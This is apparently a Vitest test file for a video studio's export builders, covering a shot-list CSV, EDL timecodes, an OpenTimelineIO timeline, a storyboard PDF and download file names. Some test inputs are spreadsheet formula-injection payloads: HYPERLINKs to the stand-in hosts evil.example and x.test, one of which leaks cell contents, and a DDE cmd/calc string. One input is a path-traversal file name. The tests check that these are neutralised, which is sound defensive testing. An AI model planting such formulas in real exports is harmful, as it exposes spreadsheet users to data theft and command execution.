import { inflateSync } from 'node:zlib';
import { PDFDocument } from 'pdf-lib';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { StoryboardPdfOptions, type Scene } from '@sym/contracts';
import { KEY, shot, source, track, voiceClip } from './download-test-data.ts';
import { attachmentDisposition, fileStem } from './download-file-name.ts';
import { buildEdl, timecode } from './edl.builder.ts';
import { buildOtio } from './otio.builder.ts';
import { buildShotListCsv, csvField } from './shot-list-csv.builder.ts';
import { storyboardShots } from './storyboard/storyboard-captions.ts';
import { buildStoryboardPdf } from './storyboard/storyboard-pdf.builder.ts';
import { toWinAnsi } from './win-ansi-text.ts';

describe('shot list CSV', () => {
  it('quotes fields with commas, quotes and line breaks (RFC 4180)', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a, b')).toBe('"a, b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
  });

  it('neutralises cells a spreadsheet would run as a formula, keeping plain numbers', () => {
    expect(csvField('=HYPERLINK("https://evil.example","click")')).toBe(
      `"'=HYPERLINK(""https://evil.example"",""click"")"`,
    );
    for (const start of ['+', '-', '@', '\t']) expect(csvField(`${start}cmd|' /C calc'!A0`)).toMatch(/^'/);
    expect(csvField('\r=1+1')).toBe(`"'\r=1+1"`);
    expect(csvField('-1+2')).toBe("'-1+2");
    expect(csvField('-1')).toBe('-1');
    expect(csvField('+2.5')).toBe('+2.5');
    expect(csvField('1=1')).toBe('1=1');
    expect(csvField('a-b')).toBe('a-b');
  });

  it('neutralises a formula in a shot description', () => {
    const csv = buildShotListCsv(
      source({ shots: [shot(1, { imageUrl: null, description: '=HYPERLINK("http://x.test/?"&A1)' })] }),
    );
    expect(csv.slice(1).split('\r\n')[1]).toBe(`1,,Medium,Zoom in,2,"'=HYPERLINK(""http://x.test/?""&A1)"`);
  });

  it('starts with a BOM and lists every shot with an absolute image url, labels and duration', () => {
    const csv = buildShotListCsv(
      source({ shots: [shot(2, { description: 'Rain, "heavy"\nnight', type: 'close' }), shot(1, { imageUrl: null })] }),
    );
    expect(csv.startsWith('\uFEFF')).toBe(true);
    const lines = csv.slice(1).split('\r\n');
    expect(lines[0]).toBe('Shot,Image URL,Type,Camera motion,Duration (s),Description');
    expect(lines[1]).toBe('1,,Medium,Zoom in,2,Shot 1 description');
    expect(lines[2]).toBe(`2,https://studio.example.com/media/${KEY}2.png,Close-up,Zoom in,2,"Rain, ""heavy""\nnight"`);
    expect(lines[3]).toBe('');
  });
});

describe('scenes in the documents', () => {
  const scene = (index: number, name: string, shotIds: string[]) =>
    ({ id: `scene-${index}`, index, name, shotIds, place: '', timeOfDay: '', interior: null }) as unknown as Scene;
  const grouped = source({
    shots: [shot(1), shot(2), shot(3)],
    scenes: [scene(1, 'INT. HUT — DAWN', ['shot-1', 'shot-2']), scene(2, 'Scene 2', ['shot-3'])],
  });

  it('name each shot’s scene in a last column of the shot list, only for an episode grouped into scenes', () => {
    const lines = buildShotListCsv(grouped).slice(1).split('\r\n');
    expect(lines[0]).toMatch(/,Description,Scene$/);
    expect(lines.slice(1, 4).map((line) => line.split(',').at(-1))).toEqual([
      'Scene 1: INT. HUT — DAWN',
      'Scene 1: INT. HUT — DAWN',
      'Scene 2',
    ]);
    expect(buildShotListCsv(source({ shots: [shot(1)] }))).not.toContain('Scene');
  });

  it('head the first panel of each scene in the storyboard with the scene', () => {
    expect(storyboardShots(grouped).map((panel) => panel.scene)).toEqual(['Scene 1: INT. HUT — DAWN', '', 'Scene 2']);
  });
});

describe('EDL', () => {
  it('writes non-drop timecodes at 30 fps', () => {
    expect(timecode(0)).toBe('00:00:00:00');
    expect(timecode(45)).toBe('00:00:01:15');
    expect(timecode(30 * 3661 + 29)).toBe('01:01:01:29');
  });

  it('has one cut event per shot with record times that follow the timeline', () => {
    const edl = buildEdl(source({ scenarioName: 'Pilot – café' }));
    const lines = edl.split('\r\n');
    expect(lines[0]).toBe('TITLE: Pilot _ cafe');
    expect(lines[1]).toBe('FCM: NON-DROP FRAME');
    const events = lines.filter((line) => /^\d{3} /.test(line));
    expect(events).toEqual([
      '001  SHOT001  V     C        00:00:00:00 00:00:02:00 00:00:00:00 00:00:02:00',
      '002  SHOT002  V     C        00:00:00:00 00:00:01:15 00:00:02:00 00:00:03:15',
      '003  SHOT003  V     C        00:00:00:00 00:00:04:00 00:00:03:15 00:00:07:15',
    ]);
    expect(edl).toContain(`* FROM CLIP NAME: ${KEY}2.mp4`);
    expect(edl).toContain(`* FROM CLIP NAME: ${KEY}1.png`);
  });
});

describe('OpenTimelineIO', () => {
  it('holds a video track of clips and audio tracks with gaps at the clips offsets', () => {
    const otio = buildOtio(
      source({
        tracks: [track({}), track({ id: 'voice-1', name: 'Voice', kind: 'voice', order: 1, audioUrl: null })],
        voiceClips: [voiceClip('v1', 0.5, 1), voiceClip('v2', 3, 1), voiceClip('v3', 3.2, 1)],
      }),
    ) as unknown as OtioTimeline;
    expect(otio.OTIO_SCHEMA).toBe('Timeline.1');
    expect(otio.tracks.OTIO_SCHEMA).toBe('Stack.1');
    const [video, music, voice, voiceOverlap] = otio.tracks.children;
    expect(video!.kind).toBe('Video');
    expect(video!.children.map((clip) => clip.source_range.duration.value)).toEqual([60, 45, 120]);
    expect(video!.children[1]!.media_reference).toMatchObject({
      OTIO_SCHEMA: 'ExternalReference.1',
      target_url: `https://studio.example.com/media/${KEY}2.mp4`,
    });
    expect(music).toMatchObject({ OTIO_SCHEMA: 'Track.1', kind: 'Audio', name: 'Music' });
    expect(music!.children.map((item) => item.OTIO_SCHEMA)).toEqual(['Gap.1', 'Clip.1']);
    expect(music!.children[0]!.source_range.duration.value).toBe(30);
    // Music plays from 0.5 s into its file until the episode ends at 7.5 s.
    expect(music!.children[1]!.source_range.start_time.value).toBe(15);
    expect(music!.children[1]!.source_range.duration.value).toBe(195);
    expect(voice!.children.map((item) => [item.OTIO_SCHEMA, item.source_range.duration.value])).toEqual([
      ['Gap.1', 15],
      ['Clip.1', 30],
      ['Gap.1', 45],
      ['Clip.1', 30],
    ]);
    expect(voiceOverlap!.name).toBe('Voice (2)');
    expect(voiceOverlap!.children.map((item) => item.source_range.duration.value)).toEqual([96, 30]);
  });

  it('links signed addresses as they are and names clips by their file, without the signature', () => {
    const signed = (path: string) => `${path}?exp=1795824000&sig=${'s'.repeat(43)}`;
    const otio = buildOtio(
      source({
        shots: [shot(1, { imageUrl: signed(`/media/${KEY}1.png`) })],
        tracks: [track({ audioUrl: signed(`/media/${KEY}-music.wav`) })],
        voiceClips: [],
      }),
    ) as unknown as OtioTimeline;
    const [video, music] = otio.tracks.children;
    expect(video!.children[0]!.media_reference).toMatchObject({
      target_url: `https://studio.example.com${signed(`/media/${KEY}1.png`)}`,
      name: `${KEY}1.png`,
    });
    const clip = music!.children.find((item) => item.OTIO_SCHEMA === 'Clip.1') as OtioItem & { name: string };
    expect(clip.name).toBe(`${KEY}-music.wav`);
  });
});

interface OtioItem {
  OTIO_SCHEMA: string;
  source_range: { start_time: { value: number }; duration: { value: number } };
  media_reference?: unknown;
}
interface OtioTimeline {
  OTIO_SCHEMA: string;
  tracks: { OTIO_SCHEMA: string; children: { kind: string; name: string; children: OtioItem[] }[] };
}

/** Every text the PDF's pages draw: pdf-lib writes them as hex strings inside flate-compressed content streams. */
function pageTexts(bytes: Uint8Array): string {
  const raw = Buffer.from(bytes);
  let texts = '';
  let from = 0;
  for (;;) {
    const start = raw.indexOf('stream\n', from);
    if (start < 0) break;
    const end = raw.indexOf('\nendstream', start);
    const body = raw.subarray(start + 'stream\n'.length, end);
    from = end + '\nendstream'.length;
    let content: string;
    try {
      content = inflateSync(body).toString('latin1');
    } catch {
      continue;
    }
    for (const match of content.matchAll(/<([0-9A-Fa-f]+)> Tj/g))
      texts += `${Buffer.from(match[1]!, 'hex').toString('latin1')}\n`;
  }
  return texts;
}

describe('storyboard PDF', () => {
  it('by default puts four shots on each A4 landscape page with their texts, pictures and page numbers', async () => {
    const defaults = StoryboardPdfOptions.parse({});
    const shots = Array.from({ length: defaults.panels + 1 }, (_, index) =>
      shot(index + 1, { description: `Marker${index + 1} ${'long words '.repeat(60)}` }),
    );
    const jpeg = await sharp({ create: { width: 64, height: 36, channels: 3, background: '#336699' } })
      .jpeg()
      .toBuffer();
    const bytes = await buildStoryboardPdf({
      source: source({ scenarioName: 'Café 東京', shots }),
      projectName: 'Lighthouse',
      brand: 'Sym Studio',
      pictures: new Map([['shot-1', { bytes: new Uint8Array(jpeg), format: 'jpg' }]]),
      comments: null,
      approvals: null,
      options: defaults,
    });
    const loaded = await PDFDocument.load(bytes);
    expect(loaded.getPageCount()).toBe(2);
    const { width, height } = loaded.getPage(0).getSize();
    expect(Math.round(width)).toBe(842);
    expect(Math.round(height)).toBe(595);
    expect(loaded.getTitle()).toBe('Café ?? - storyboard');
    const raw = Buffer.from(bytes).toString('latin1');
    expect(raw).toContain('/Subtype /Image');
    const drawn = pageTexts(bytes);
    for (const expected of [
      'Marker1',
      'Marker5',
      'Shot 5',
      'Medium, camera zoom in',
      '2 s',
      'Lighthouse',
      'Sym Studio',
    ]) {
      expect(drawn).toContain(expected);
    }
    expect(drawn).toContain('Page 2 of 2');
    expect(drawn).toContain('No picture');
  });

  it('replaces characters the standard fonts cannot encode', () => {
    expect(toWinAnsi('Café – “quoted” …')).toBe('Café – “quoted” …');
    expect(toWinAnsi('Ārvids\nŁódź 東京')).toBe('Arvids ?ódz ??');
  });
});

describe('download file names', () => {
  it('strips path and reserved characters and encodes non-ASCII names', () => {
    expect(fileStem('../a/b: "c"?')).toBe('a b c');
    expect(fileStem('  ')).toBe('episode');
    expect(attachmentDisposition('東京.csv')).toBe(
      `attachment; filename="__.csv"; filename*=UTF-8''%E6%9D%B1%E4%BA%AC.csv`,
    );
  });
});
